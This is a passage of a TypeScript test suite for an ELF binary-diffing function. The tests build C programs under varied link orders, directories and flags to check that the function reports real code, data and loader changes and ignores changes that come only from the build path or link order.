import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { causesBetween } from '../../../src/diff/hints.js'
import { compareCode } from '../../../src/formats/elf-code.js'
import { loaderFacts } from '../../../src/formats/elf-loader.js'
import { cleanupTemp, makeTemp } from '../../helpers.js'

afterAll(cleanupTemp)

const sh = (cwd: string, script: string): void => {
  execFileSync('sh', ['-ec', script], { cwd, stdio: 'pipe' })
}

/**
 * A program of several files whose functions call each other, with a static helper of
 * one name in every file, a switch (a jump table in .rodata), strings, __FILE__ and
 * globals: what a link in another order or a build in another directory moves around.
 */
function writeProgram(dir: string, files = 8): void {
  fs.mkdirSync(dir, { recursive: true })
  const declarations = Array.from({ length: files }, (_, i) =>
    Array.from({ length: 4 }, (_, j) => `int fn${i}_${j}(int x);\n`).join(''),
  ).join('')
  for (let i = 0; i < files; i++) {
    const body = Array.from(
      { length: 4 },
      (_, j) => `int fn${i}_${j}(int x) {
  if (x <= 0) return helper(g${i});
  switch (x % 7) {
    case 0: puts(tab${i}[0]); break;
    case 1: puts(tab${i}[1]); break;
    case 2: return (int)strlen(tab${i}[2]);
    case 3: g${i} += 3; break;
    case 4: printf("%s:%d\\n", __FILE__, __LINE__); break;
    case 5: return g${i} ^ ${j};
    default: break;
  }
  return fn${(i * 5 + j + 1) % files}_${(j + 1) % 4}(x - 1) + fn${(i + 3) % files}_${j}(x - 2) + helper(x);
}
`,
    ).join('')
    fs.writeFileSync(
      path.join(dir, `f${i}.c`),
      `#include <stdio.h>\n#include <string.h>\n${declarations}static int helper(int x) { return x * ${i + 3} + ${i}; }\nint g${i} = ${i * 7};\nstatic const char *tab${i}[] = {"s${i}a-text", "s${i}b-text", "common"};\n${body}`,
    )
  }
  fs.writeFileSync(
    path.join(dir, 'main.c'),
    'int fn0_0(int);\nint main(int c, char **v) { (void)v; return fn0_0(c + 3); }\n',
  )
}

const read = (file: string): Buffer => fs.readFileSync(file)

describe('compareCode', () => {
  let dir: string
  beforeAll(() => {
    dir = makeTemp()
    writeProgram(dir)
    // Two link orders, position-independent and not; then one constant changed in one function.
    sh(
      dir,
      `gcc -O2 -c *.c
       gcc -o pie-ab main.o f*.o && gcc -o pie-ba $(ls f*.o | sort -r) main.o
       gcc -no-pie -o abs-ab main.o f*.o && gcc -no-pie -o abs-ba $(ls f*.o | sort -r) main.o
       sed -i 's/return g5 ^ 2;/return g5 ^ 9;/' f5.c && gcc -O2 -c f5.c -o f5.o
       gcc -o pie-ba-changed $(ls f*.o | sort -r) main.o
       gcc -no-pie -o abs-ba-changed $(ls f*.o | sort -r) main.o`,
    )
  })

  it('finds no change of code in a link in another order, with or without PIE', () => {
    for (const kind of ['pie', 'abs']) {
      const [a, b] = [read(path.join(dir, `${kind}-ab`)), read(path.join(dir, `${kind}-ba`))]
      expect(a.equals(b)).toBe(false)
      expect(compareCode(a, b)).toEqual({ changed: [], unlisted: 0, incomplete: false })
    }
  })

  it('names the one function whose code changed beside a link in another order', () => {
    for (const kind of ['pie', 'abs']) {
      const found = compareCode(
        read(path.join(dir, `${kind}-ab`)),
        read(path.join(dir, `${kind}-ba-changed`)),
      )
      expect(found?.changed.map((c) => [c.name, c.section])).toEqual([['fn5_2', '.text']])
      expect(found?.changed[0]?.offset).toBeGreaterThan(0)
    }
  })

  it('finds no change of code in a build in another directory, stripped or not', () => {
    const far = path.join(makeTemp(), 'a', 'much', 'longer', 'path')
    const near = path.join(makeTemp(), 'b')
    for (const d of [far, near]) {
      writeProgram(d, 4)
      // __FILE__ is the absolute path: the strings grow, and all that follows them moves.
      sh(d, `gcc -O2 -o app "$PWD"/*.c && strip -o app.stripped app && gcc -g -O2 -c "$PWD/f1.c"`)
    }
    for (const file of ['app', 'app.stripped', 'f1.o']) {
      const [a, b] = [read(path.join(far, file)), read(path.join(near, file))]
      expect(a.equals(b)).toBe(false)
      expect(compareCode(a, b)).toEqual({ changed: [], unlisted: 0, incomplete: false })
    }
    // A changed function is found in a stripped program too, by its section.
    fs.writeFileSync(
      path.join(near, 'f2.c'),
      fs.readFileSync(path.join(near, 'f2.c'), 'utf8').replace('return g2 ^ 1;', 'return g2 ^ 7;'),
    )
    sh(near, 'gcc -O2 -o app "$PWD"/*.c && strip -o app.stripped app')
    const stripped = compareCode(
      read(path.join(far, 'app.stripped')),
      read(path.join(near, 'app.stripped')),
    )
    expect(stripped?.changed.map((c) => c.name)).toEqual(['.text'])
  })

  it('names what the loader reads that changed, whatever the code: stack, RELRO, libraries, interpreter', () => {
    const [far, near] = [path.join(makeTemp(), 'a', 'longer', 'path'), path.join(makeTemp(), 'b')]
    for (const d of [far, near]) writeProgram(d, 2)
    const build = (d: string, name: string, flags: string) => {
      sh(d, `gcc -O2 ${flags} -o ${name} "$PWD"/*.c`)
      return read(path.join(d, name))
    }
    const base = build(far, 'app', '')
    // Another directory alone: nothing the loader reads differs.
    expect(compareCode(base, build(near, 'app', ''))?.changed).toEqual([])
    const named = (flags: string, rpath = '') =>
      compareCode(base, build(near, 'app2', `${flags}${rpath}`), {
        textExplained: (p, q) => causesBetween(p, q) !== undefined,
      })?.changed.map((c) => c.name)
    expect(named('-Wl,-z,execstack')).toEqual([
      'segments (A only: GNU_STACK RW; B only: GNU_STACK RWE)',
    ])
    expect(named('-Wl,-z,norelro')).toEqual(['segments (A only: GNU_RELRO R; B only: none)'])
    // With no section table (e_shoff 0), the code is not compared, but the loader's view is.
    const noSections = (bytes: Buffer): Buffer => {
      const copy = Buffer.from(bytes)
      copy.fill(0, 40, 48)
      return copy
    }
    const stack = build(near, 'app4', '-Wl,-z,execstack')
    expect(compareCode(noSections(base), noSections(stack))).toEqual({
      changed: [
        {
          name: 'segments (A only: GNU_STACK RW; B only: GNU_STACK RWE)',
          section: 'program headers',
          offset: -1,
          placeless: true,
        },
      ],
      unlisted: 0,
      incomplete: true,
    })
    expect(named('-Wl,--no-as-needed -lm')).toEqual([
      'dynamic section (A only: none; B only: NEEDED libm.so.6)',
    ])
    expect(named('-Wl,--dynamic-linker=/tmp/x/ld.so')?.[0]).toMatch(
      /^interpreter \(\/lib.*ld-linux.* → \/tmp\/x\/ld\.so\)$/,
    )
    // A search path under each build's own directory: the build path's doing.
    const [one, two] = [path.join(makeTemp(), 'x', 'proj'), path.join(makeTemp(), 'y', 'proj')]
    for (const d of [one, two]) writeProgram(d, 2)
    const withRpath = (d: string) => build(d, 'app3', `-Wl,-rpath,"$PWD/lib"`)
    expect(
      compareCode(withRpath(one), withRpath(two), {
        textExplained: (p, q) => causesBetween(p, q) !== undefined,
      })?.changed,
    ).toEqual([])
    // Hostile bytes: read within bounds, never thrown on.
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2048 }), fc.nat(2047), (noise, at) => {
        const bytes = Buffer.from(base.subarray(0, 4096))
        Buffer.from(noise).copy(bytes, Math.min(at, 4095))
        expect(() => loaderFacts(bytes)).not.toThrow()
      }),
      { numRuns: 200 },
    )
  })

  it('names a function that points to another thing: another element, string or table', () => {
    const d = makeTemp()
    const data =
      'int tbl[4] = {1, 2, 3, 4};\nstatic const int one[4] = {11, 12, 13, 14};\nstatic const int two[4] = {11, 22, 23, 24};\n' +
      'const int *pick(int i) { return i ? one : two; }\nconst char *word(int i) { return i ? "first words" : "second words"; }\n'
    fs.writeFileSync(path.join(d, 'data.c'), data)
    fs.writeFileSync(path.join(d, 'other.c'), 'int other(int x) { return x * 5; }\n')
    const uses = (element: number, text: string, array: string): string =>
      `#include <stdio.h>\nextern int tbl[4];\nstatic const int one[4] = {11, 12, 13, 14};\nstatic const int two[4] = {11, 22, 23, 24};\n` +
      `static const int *volatile keep[2] = {one, two};\n` +
      `int use(int i) { puts(i ? "first words" : "second words"); return tbl[${element}] + keep[i & 1][i] + ${array}[i & 3]; }\n` +
      `void text(void) { puts("${text}"); }\nint main(int c, char **v) { (void)v; text(); return use(c); }\n`
    fs.writeFileSync(path.join(d, 'a.c'), uses(1, 'first words', 'one'))
    fs.writeFileSync(path.join(d, 'b.c'), uses(2, 'first words', 'one'))
    fs.writeFileSync(path.join(d, 'c.c'), uses(1, 'second words', 'one'))
    fs.writeFileSync(path.join(d, 'e.c'), uses(1, 'first words', 'two'))
    sh(
      d,
      `gcc -O1 -c data.c other.c a.c b.c c.c e.c
       gcc -o a data.o other.o a.o && strip -o a.s a
       for s in b c e; do gcc -o $s $s.o other.o data.o && gcc -o $s.in-order data.o other.o $s.o && strip -o $s.s $s.in-order; done
       gcc -o same a.o other.o data.o`,
    )
    const code = (x: string, y: string): string[] | undefined =>
      compareCode(read(path.join(d, x)), read(path.join(d, y)))?.changed.map((c) => c.name)
    // Linked in another order, and (stripped) in the same order: the same code.
    expect(code('a', 'same')).toEqual([])
    expect(code('a.s', 'a.s')).toEqual([])
    // Another element of the same array; another string; another table of the same size.
    for (const changed of ['b', 'c', 'e']) {
      expect(code('a', changed)).toContain(changed === 'c' ? 'text' : 'use')
      expect(code('a.s', `${changed}.s`)).toEqual(['.text'])
    }
  })

  it('names code a build path does not explain: another call in a stripped program, an unsized function, swapped statics', () => {
    const d = makeTemp()
    const built = (dir: string, script: string): void => {
      fs.mkdirSync(path.join(d, dir), { recursive: true })
      sh(path.join(d, dir), script)
    }
    // Built in two directories (__FILE__ holds the path), each with one change of code.
    const sides = [
      ['a', ''],
      ['b/much/deeper', 'B'],
    ] as const
    for (const [dir, b] of sides) {
      const main = (body: string): string => `#include <stdio.h>\n${body}`
      fs.mkdirSync(path.join(d, dir), { recursive: true })
      fs.writeFileSync(
        path.join(d, dir, 'call.c'),
        main(
          'int grant(int u) { return 1; }\nint deny(int u) { return 0; }\nint main(int c, char **v) { printf("%s %d\\n", __FILE__, CHECK(c)); return 0; }\n',
        ),
      )
      fs.writeFileSync(
        path.join(d, dir, 'asm.c'),
        main(
          'extern int magic(void);\nint main(void) { printf("%s %d\\n", __FILE__, magic()); return 0; }\n',
        ),
      )
      // An assembly function with no size in the symbol table.
      fs.writeFileSync(
        path.join(d, dir, 'magic.s'),
        `\t.section .note.GNU-stack,"",@progbits\n\t.text\n\t.globl magic\n\t.type magic, @function\nmagic:\n\tmovl $${b === '' ? 42 : 1337}, %eax\n\tret\n`,
      )
      const helper = (body: string, name: string): string =>
        `__attribute__((noinline)) static int helper(int x) { return ${body}; }\nint ${name}(int x) { return helper(x); }\n`
      // Two files' static helpers of one name, their bodies swapped on the B side.
      fs.writeFileSync(path.join(d, dir, 'f1.c'), helper(b === '' ? 'x + 10' : 'x * 3', 'one'))
      fs.writeFileSync(path.join(d, dir, 'f2.c'), helper(b === '' ? 'x * 3' : 'x + 10', 'two'))
      fs.writeFileSync(
        path.join(d, dir, 'statics.c'),
        main(
          'int one(int), two(int);\nint main(int c, char **v) { printf("%s %d %d\\n", __FILE__, one(c), two(c)); return 0; }\n',
        ),
      )
      built(
        dir,
        `gcc -O0 -DCHECK=${b === '' ? 'deny' : 'grant'} -o call "$PWD/call.c" && strip call
         gcc -O2 -o asm "$PWD/asm.c" magic.s
         gcc -O2 -o statics "$PWD/statics.c" f1.c f2.c`,
      )
    }
    const code = (file: string): string[] | undefined =>
      compareCode(
        read(path.join(d, 'a', file)),
        read(path.join(d, 'b/much/deeper', file)),
      )?.changed.map((c) => c.name)
    expect(code('call')).toEqual(['.text'])
    expect(code('asm')).toEqual(['magic'])
    expect(code('statics')).toEqual(['helper (f1.c)', 'helper (f2.c)'])
  })

  it('names a call to other unnamed code whose first words are the same as the code called before', () => {
    const d = makeTemp()
    // Two functions alike for their first 26 bytes (-O0 stores of the argument), then
    // returning 1 or 0; stripped, so nothing names them. Directories of one length keep
    // every address in place: the call's target and the path are all that differ.
    for (const [dir, check] of [
      ['a', 'deny'],
      ['b', 'grant'],
    ] as const) {
      fs.mkdirSync(path.join(d, dir))
      fs.writeFileSync(
        path.join(d, dir, 'call.c'),
        `#include <stdio.h>\nint grant(int u) { volatile int a = u, b = u, c = u; return 1; }\nint deny(int u) { volatile int a = u, b = u, c = u; return 0; }\nint main(int c, char **v) { printf("%s %d\\n", __FILE__, ${check}(c)); return 0; }\n`,
      )
      sh(path.join(d, dir), 'gcc -O0 -o call "$PWD/call.c" && strip call')
    }
    const [a, b] = [read(path.join(d, 'a/call')), read(path.join(d, 'b/call'))]
    expect(a.length).toBe(b.length)
    expect(compareCode(a, b)?.changed.map((c) => c.name)).toEqual(['.text'])
  })

  it('names a change in an executable section that no symbol is in', () => {
    const d = makeTemp()
    for (const [dir, byte] of [
      ['a', 1],
      ['b', 2],
    ] as const) {
      fs.mkdirSync(path.join(d, dir))
      // Code in a section of its own with no label: only the section can name it.
      fs.writeFileSync(
        path.join(d, dir, 'm.c'),
        `#include <stdio.h>\n__asm__(".section .nosym,\\"ax\\",@progbits\\n.byte 0x90,0x90,${byte},0xc3\\n.previous");\nint main(void) { puts(__FILE__); return 0; }\n`,
      )
      sh(path.join(d, dir), 'gcc -O2 -o app "$PWD/m.c"')
    }
    expect(
      compareCode(read(path.join(d, 'a/app')), read(path.join(d, 'b/app')))?.changed.map(
        (c) => c.name,
      ),
    ).toEqual(['.nosym'])
  })

  it('names an object file whose relocations name another symbol or place, though its bytes are the same', () => {
    const d = makeTemp()
    const write = (name: string, code: string): void => {
      fs.writeFileSync(path.join(d, name), code)
    }
    write('a.c', 'void foo(void); void bar(void);\nvoid run(void) { foo(); }\n')
    write('b.c', 'void foo(void); void bar(void);\nvoid run(void) { bar(); }\n')
    write('c.c', 'extern int table[8];\nint pick(void) { return table[2]; }\n')
    write('e.c', 'extern int table[8];\nint pick(void) { return table[5]; }\n')
    sh(d, 'gcc -O2 -c a.c b.c c.c e.c')
    const [a, b, c, e] = ['a.o', 'b.o', 'c.o', 'e.o'].map((f) => read(path.join(d, f))) as [
      Buffer,
      Buffer,
      Buffer,
      Buffer,
    ]
    // The code bytes are the same: only the relocation's symbol, or its addend, differs.
    expect(compareCode(a, b)?.changed.map((x) => x.name)).toEqual(['run'])
    expect(compareCode(c, e)?.changed.map((x) => x.name)).toEqual(['pick'])
  })

  it('names a call bound to another library function, though the calling code is the same bytes', () => {
    const d = makeTemp()
    for (const [dir, call] of [
      ['puts', 'puts("x")'],
      ['free', 'free((void *)"x")'],
    ] as const) {
      fs.mkdirSync(path.join(d, dir))
      fs.writeFileSync(
        path.join(d, dir, 'm.c'),
        `#include <stdio.h>\n#include <stdlib.h>\nint main(void) { ${call}; return 0; }\n`,
      )
      sh(path.join(d, dir), 'gcc -O1 -w -o app m.c')
    }
    // The same slot of the PLT, bound to puts on one side and free on the other.
    expect(
      compareCode(read(path.join(d, 'puts/app')), read(path.join(d, 'free/app')))?.changed.map(
        (c) => c.name,
      ),
    ).toEqual(['functions called through the PLT (A only: puts@plt; B only: free@plt)'])
  })

  it('names a slot or pointer bound to another symbol, and a zeroed object of another size, though no code byte differs', () => {
    const d = makeTemp()
    const build = (dir: string, defines: string, flags: string): Buffer => {
      fs.mkdirSync(path.join(d, dir))
      fs.writeFileSync(
        path.join(d, dir, 'm.c'),
        `#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#ifdef POINTER\nint (*const fp)(const char *) = FN;\nint run(const char *c) { return fp(c); }\n#else\nint run(const char *c) { return FN(c); }\n#endif\nchar buf[N];\nint main(int c, char **v) { (void)c; strcpy(buf, v[0]); return run(buf); }\n`,
      )
      sh(path.join(d, dir), `gcc -w ${flags} ${defines} -o app m.c`)
      return read(path.join(d, dir, 'app'))
    }
    const names = (a: Buffer, b: Buffer): string[] | undefined =>
      compareCode(a, b)?.changed.map((c) => c.name)
    const bound = 'symbols the dynamic relocations bind (A only: puts; B only: system)'
    // A pointer to puts, then to system; a call through the GOT (-fno-plt) alike.
    expect(
      names(
        build('p1', '-DPOINTER -DFN=puts -DN=64', '-O0'),
        build('p2', '-DPOINTER -DFN=system -DN=64', '-O0'),
      ),
    ).toContain(bound)
    expect(
      names(
        build('g1', '-DFN=puts -DN=64', '-O1 -fno-plt'),
        build('g2', '-DFN=system -DN=64', '-O1 -fno-plt'),
      ),
    ).toContain(bound)
    // Two pointers to puts and system, swapped: the same names bound, to other slots.
    const swapped = (dir: string, first: string, second: string): Buffer => {
      fs.mkdirSync(path.join(d, dir))
      fs.writeFileSync(
        path.join(d, dir, 't.c'),
        `#include <stdio.h>\n#include <stdlib.h>\nint (*const table[2])(const char *) = { ${first}, ${second} };\nint main(int c, char **v) { (void)v; return table[c & 1]("x"); }\n`,
      )
      sh(path.join(d, dir), 'gcc -w -O2 -o app t.c')
      return read(path.join(d, dir, 'app'))
    }
    const table = swapped('t1', 'puts', 'system')
    expect(names(table, swapped('t2', 'system', 'puts'))).toEqual([
      'symbols the dynamic relocations bind, in another order of their slots (slot 1: A puts, B system)',
    ])
    expect(names(table, swapped('t3', 'puts', 'system'))).toEqual([])
    // A buffer of 4096 bytes, then of 8: .bss takes no byte of the file.
    expect(
      names(build('b1', '-DFN=puts -DN=4096', '-O1'), build('b2', '-DFN=puts -DN=8', '-O1')),
    ).toContain('buf')
    // Of 2048, where every code byte stays the same (the section starts where it did).
    const b3 = build('b3', '-DFN=puts -DN=2048', '-O1')
    expect(names(read(path.join(d, 'b1/app')), b3)).toEqual(['.bss'])
    // Stripped, by the section's size.
    sh(d, 'strip -o b1/stripped b1/app && strip -o b2/stripped b2/app')
    expect(names(read(path.join(d, 'b1/stripped')), read(path.join(d, 'b2/stripped')))).toContain(
      '.bss',
    )
    // And the same program twice: nothing.
    expect(
      names(build('s1', '-DFN=puts -DN=64', '-O1'), build('s2', '-DFN=puts -DN=64', '-O1')),
    ).toEqual([])
  })

  it('says a file with more symbols and relocations than it compares was not compared in full, rather than use unbounded memory', () => {
    const d = makeTemp()
    // Assembled: each function a symbol and a relocation; the last one's code differs.
    const objects = (functions: number): [Buffer, Buffer] =>
      ([1, 2] as const).map((last) => {
        const lines = Array.from(
          { length: functions },
          (_, i) =>
            `.globl f${i}\nf${i}: movl where(%rip), %eax\naddl $${i === functions - 1 ? last : 0}, %eax\nret\n`,
        )
        const source = path.join(d, `${functions}-${last}.s`)
        fs.writeFileSync(source, `.text\n${lines.join('')}.data\nwhere: .long 0\n`)
        sh(d, `as -o ${source}.o ${source}`)
        return read(`${source}.o`)
      }) as [Buffer, Buffer]
    expect(compareCode(...objects(31_000))?.incomplete).toBe(true)
    const compared = compareCode(...objects(2_000))
    expect(compared?.incomplete).toBe(false)
    expect(compared?.changed.map((c) => c.name)).toEqual(['f1999'])
  })

  it('names a changed function of an object file, and one that only one side has', () => {
    const d = makeTemp()
    const write = (name: string, code: string): void => {
      fs.writeFileSync(path.join(d, name), code)
    }
    write('a.c', 'extern int g;\nint fa(int x) { return x + 3 + g; }\n')
    // Of the same size: only an immediate differs.
    write('b.c', 'extern int g;\nint fa(int x) { return x + 4 + g; }\n')
    write('c.c', 'extern int g;\nint fa(int x) { return x + 3 + g; }\nint fc(void) { return 1; }\n')
    sh(d, 'gcc -O2 -c a.c b.c c.c')
    const [a, b, c] = ['a.o', 'b.o', 'c.o'].map((f) => read(path.join(d, f))) as [
      Buffer,
      Buffer,
      Buffer,
    ]
    expect(compareCode(a, b)?.changed.map((x) => x.name)).toEqual(['fa'])
    expect(compareCode(a, c)?.changed).toEqual([{ name: 'fc', section: '.text', offset: -1 }])
    expect(compareCode(a, a)?.changed).toEqual([])
  })

  it('is undefined for what is not ELF, and bounded and safe on damaged or hostile bytes', () => {
    expect(compareCode(Buffer.from('not elf'), Buffer.from('not elf either'))).toBeUndefined()
    const real = read(path.join(dir, 'pie-ab'))
    const other = read(path.join(dir, 'pie-ba'))
    fc.assert(
      fc.property(
        fc.array(fc.record({ at: fc.nat({ max: real.length - 1 }), value: fc.nat({ max: 255 }) }), {
          maxLength: 24,
        }),
        fc.nat({ max: real.length }),
        (edits, cut) => {
          const bytes = Buffer.from(real.subarray(0, Math.max(cut, 64)))
          for (const e of edits) if (e.at < bytes.length) bytes[e.at] = e.value
          const found = compareCode(bytes, other)
          expect(found === undefined).toBe(!bytes.subarray(0, 4).equals(real.subarray(0, 4)))
          expect(found?.changed.length ?? 0).toBeLessThanOrEqual(8)
        },
      ),
      { numRuns: 60 },
    )
  })
})

describe('compareCode on named data', () => {
  const explained = (p: string, q: string): boolean => causesBetween(p, q) !== undefined

  it('names a global whose value changed beside a build path, and no text a path or time explains', () => {
    const root = makeTemp()
    const program = (value: number, text: string): string =>
      `#include <stdio.h>\nint limit = ${value};\nconst char greeting[] = "${text}";\nconst char where[] = __FILE__;\nconst char when[] = __DATE__ " " __TIME__;\nint main(void) { printf("%d %s %s %s\\n", limit, greeting, where, when); return 0; }\n`
    const sides = [
      ['one', 'faketime -f "@2024-01-01 10:00:00"'],
      ['two/deeper', 'faketime -f "@2024-03-02 11:30:00"'],
    ] as const
    const make = (value: number, text: string): Buffer[] =>
      sides.map(([dir, clock]) => {
        const d = path.join(root, dir)
        fs.mkdirSync(d, { recursive: true })
        fs.writeFileSync(path.join(d, 'm.c'), program(value, text))
        sh(d, `${clock} gcc -O2 -o app "$PWD/m.c"`)
        return read(path.join(d, 'app'))
      })
    const [a, b] = make(5, 'hello')
    expect(
      compareCode(a ?? Buffer.alloc(0), b ?? Buffer.alloc(0), { textExplained: explained }),
    ).toEqual({
      changed: [],
      unlisted: 0,
      incomplete: false,
    })
    // Without a judge of text, the path in `where` is a change of data (and the time in
    // `when`, in the section that holds both).
    expect(
      compareCode(a ?? Buffer.alloc(0), b ?? Buffer.alloc(0))
        ?.changed.map((c) => c.name)
        .sort(),
    ).toEqual(['.rodata', 'when', 'where'])
    const [, changed] = make(6, 'howdy')
    expect(
      compareCode(a ?? Buffer.alloc(0), changed ?? Buffer.alloc(0), {
        textExplained: explained,
      })
        ?.changed.map((c) => c.name)
        .sort(),
    ).toEqual(['.rodata', 'greeting', 'limit'])
  })

  it('names a function whose constant in a merged section changed, though its bytes are the same', () => {
    const d = makeTemp()
    for (const [name, value] of [
      ['a', '3.25'],
      ['b', '2.75'],
    ] as const) {
      fs.writeFileSync(
        path.join(d, `${name}.c`),
        `double scale(double x) { return x * ${value}; }\n`,
      )
      sh(d, `gcc -O2 -c ${name}.c`)
    }
    // The constant lies in .rodata.cst8, at the same place on both sides.
    expect(
      compareCode(read(path.join(d, 'a.o')), read(path.join(d, 'b.o')), {
        textExplained: explained,
      })?.changed.map((c) => c.name),
    ).toEqual(['scale'])
  })

  it('names a global whose value changed beside a link in another order, in programs and objects', () => {
    const d = makeTemp()
    writeProgram(d)
    sh(
      d,
      `gcc -O2 -c *.c
       gcc -o ab main.o f*.o && gcc -o ba $(ls f*.o | sort -r) main.o
       sed -i 's/int g5 = 35;/int g5 = 36;/' f5.c && cp f5.o f5-before.old && gcc -O2 -c f5.c -o f5.o
       gcc -o ba-changed $(ls f*.o | sort -r) main.o`,
    )
    const names = (p: string, q: string): string[] | undefined =>
      compareCode(read(path.join(d, p)), read(path.join(d, q)), {
        textExplained: explained,
      })?.changed.map((c) => c.name)
    expect(names('ab', 'ba')).toEqual([])
    expect(names('ab', 'ba-changed')).toEqual(['g5'])
    expect(names('f5-before.old', 'f5.o')).toEqual(['g5'])
    // A string the code loads changed in place (the compiler folded the table into the
    // functions that index it): in an object file, at one place in a merged section,
    // named by the functions that load it. (Linked beside a link in another order, the
    // code that moved with its string loads another one in the same bytes: not seen.)
    sh(
      d,
      `cp f3.o f3-before.old && sed -i 's/"s3b-text"/"s3x-text"/' f3.c && gcc -O2 -c f3.c -o f3.o`,
    )
    // And the string itself, in the section the linker merges.
    expect(names('f3-before.old', 'f3.o')).toEqual([
      'fn3_0',
      'fn3_1',
      'fn3_2',
      'fn3_3',
      '.rodata.str1.1',
    ])
  })
})

describe('compareCode on what a build in another directory moves', () => {
  const explained = (p: string, q: string): boolean => causesBetween(p, q) !== undefined
  /** One source built in a short and a long directory: [object, program] of each. */
  const both = (source: string, flags = '', sourceB = source): [Buffer, Buffer][] => {
    // A short root: __FILE__ under 32 bytes goes to .rodata.str1.1, a longer one to .str1.8.
    const root = makeTemp('r')
    const dirs = ['s', 'a-much-longer-build-directory/b'].map((d) => path.join(root, d))
    for (const d of dirs) {
      fs.mkdirSync(d, { recursive: true })
      fs.writeFileSync(path.join(d, 'm.c'), d === dirs[0] ? source : sourceB)
      sh(d, `gcc -O2 ${flags} -c "$PWD/m.c" -o m.o && gcc ${flags} m.o -o prog`)
    }
    return ['m.o', 'prog'].map((f) => dirs.map((d) => read(path.join(d, f))) as [Buffer, Buffer])
  }
  const changed = ([a, b]: [Buffer, Buffer]): string[] | undefined =>
    compareCode(a, b, { textExplained: explained })?.changed.map((c) => c.name)

  it('follows a table of pointers to strings that moved, and a path put in another merged section', () => {
    const options = `#include <assert.h>\n#include <getopt.h>\n#include <stdio.h>\nstatic const struct option opts[] = {{"help", no_argument, 0, 'h'}, {"verbose", no_argument, 0, 'v'}, {0, 0, 0, 0}};\nint main(int argc, char **argv) { assert(argc > 0); int c; while ((c = getopt_long(argc, argv, "hv", opts, 0)) != -1) printf("%c\\n", c); return 0; }\n`
    for (const flags of ['', '-no-pie -fno-pie'])
      for (const pair of both(options, flags)) expect(changed(pair), flags).toEqual([])
  })

  it('names a table of pointers whose string changed, in an object file and a program', () => {
    // The table's pointers are zeros in the object file: where they point is said by
    // the relocations of its data section alone, and no code loads the string itself.
    const program = (word: string): string =>
      `#include <assert.h>\n#include <stdio.h>\nconst char *names[] = {"alpha", "${word}", 0};\nint main(int argc, char **argv) { assert(argc > 0); for (const char **n = names; *n; n++) puts(*n); return 0; }\n`
    for (const pair of both(program('beta'))) expect(changed(pair)).toEqual([])
    // The table, and the string in the section that holds it.
    const [object, linked] = both(program('beta'), '', program('betz'))
    expect(changed(object ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual([
      'names',
      '.rodata.str1.1',
    ])
    expect(changed(linked ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual(['names', '.rodata'])
  })

  it('names a string literal that changed beside the path, stripped or not, and a value by its symbol', () => {
    // A string literal has no symbol in any program: a build path found beside it
    // explained it away. (A stripped program's other values, which no symbol names, are
    // not compared.)
    const program = (limit: number, mode: string): string =>
      `#include <assert.h>\n#include <stdio.h>\nint limit = ${limit};\nint main(int argc, char **argv) { (void)argv; assert(argc > 0); puts("mode=${mode}"); printf("%s\\n", "f"); return argc > limit; }\n`
    for (const flags of ['-s', '']) {
      const [, same] = both(program(10, 'safe'), flags)
      expect(changed(same ?? [Buffer.alloc(0), Buffer.alloc(0)]), flags).toEqual([])
      // The string, and the code that loads it (by its section in a stripped program).
      const [, text] = both(program(10, 'safe'), flags, program(10, 'evil'))
      expect(changed(text ?? [Buffer.alloc(0), Buffer.alloc(0)]), flags).toEqual(
        flags === '' ? ['main', '.rodata'] : ['.text', '.rodata'],
      )
    }
    const [, value] = both(program(10, 'safe'), '', program(99, 'safe'))
    expect(changed(value ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual(['limit'])
    // A string beyond ASCII, read whole (not from its last non-ASCII letter on); and a
    // section of data one build has and the other has not.
    const [, utf8] = both(program(10, 'grüße aaaa'), '-s', program(10, 'Grüße aaaa'))
    expect(changed(utf8 ?? [Buffer.alloc(0), Buffer.alloc(0)])).toContain('.rodata')
    const extra = `${program(10, 'safe')}__attribute__((used, section(".cfg"))) static const int cfg[4] = {1, 2, 3, 4};\n`
    const [, section] = both(program(10, 'safe'), '-s', extra)
    expect(changed(section ?? [Buffer.alloc(0), Buffer.alloc(0)])).toContain('.cfg')
  })

  it('pairs thousands of texts moved by a link in another order beside a path, in time', () => {
    // Each text holds the path: none is the same bytes on both sides, and each must be
    // paired with its own by its shape, not tried against every other.
    const root = makeTemp()
    const dirs = ['s', 'a-much-longer-build-directory/b'].map((d) => path.join(root, d))
    const unit = (n: number): string =>
      Array.from(
        { length: 1500 },
        (_, i) => `const char *m${n}_${i} = "m${n}_${i} at " __FILE__;\n`,
      ).join('')
    for (const d of dirs) {
      fs.mkdirSync(d, { recursive: true })
      fs.writeFileSync(path.join(d, 'p1.c'), unit(1))
      fs.writeFileSync(path.join(d, 'p2.c'), `${unit(2)}int main(void) { return 0; }\n`)
    }
    sh(dirs[0] ?? '', 'gcc -O2 -o prog "$PWD/p1.c" "$PWD/p2.c"')
    sh(dirs[1] ?? '', 'gcc -O2 -o prog "$PWD/p2.c" "$PWD/p1.c"')
    const [a, b] = dirs.map((d) => read(path.join(d, 'prog')))
    expect(
      compareCode(a ?? Buffer.alloc(0), b ?? Buffer.alloc(0), { textExplained: explained }),
    ).toEqual({
      changed: [],
      unlisted: 0,
      incomplete: false,
    })
  })

  it('reads a string literal with letters beyond ASCII as text, whatever its first 16 bytes', () => {
    const program = (text: string): string =>
      `#include <assert.h>\n#include <stdio.h>\nint main(int argc, char **argv) { (void)argv; assert(argc > 0); puts("${text}"); return 0; }\n`
    const [, same] = both(program('Ceci est très agréable, merci'))
    expect(changed(same ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual([])
    const [, other] = both(
      program('Ceci est très agréable, merci'),
      '',
      program('Ceci est très agréable, mercI'),
    )
    // The function that loads it, and the section that holds it.
    expect(changed(other ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual(['main', '.rodata'])
    // Text on one side, a control byte after the same 16 bytes on the other: a change.
    const [, control] = both(program('0123456789abcdefXYZ'), '', program('0123456789abcdef\\001YZ'))
    expect(changed(control ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual(['main', '.rodata'])
  })

  it('follows a string the code loads from .rodata at another place, as -O0 leaves it', () => {
    const program = (text: string): string =>
